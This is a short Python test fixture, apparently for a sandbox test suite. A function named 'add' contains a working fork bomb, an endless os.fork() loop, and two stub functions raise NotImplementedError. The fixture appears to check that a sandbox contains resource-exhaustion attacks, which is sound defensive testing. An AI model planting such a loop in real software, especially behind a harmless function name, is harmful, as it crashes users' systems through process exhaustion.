# ruff: noqa  (hostile code on purpose; placeholders are filled in by test_sandbox.py)
"""Attack: fork bomb (every process keeps forking and spinning)."""
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def mean(xs):
    raise NotImplementedError


def order(xs):
    raise NotImplementedError
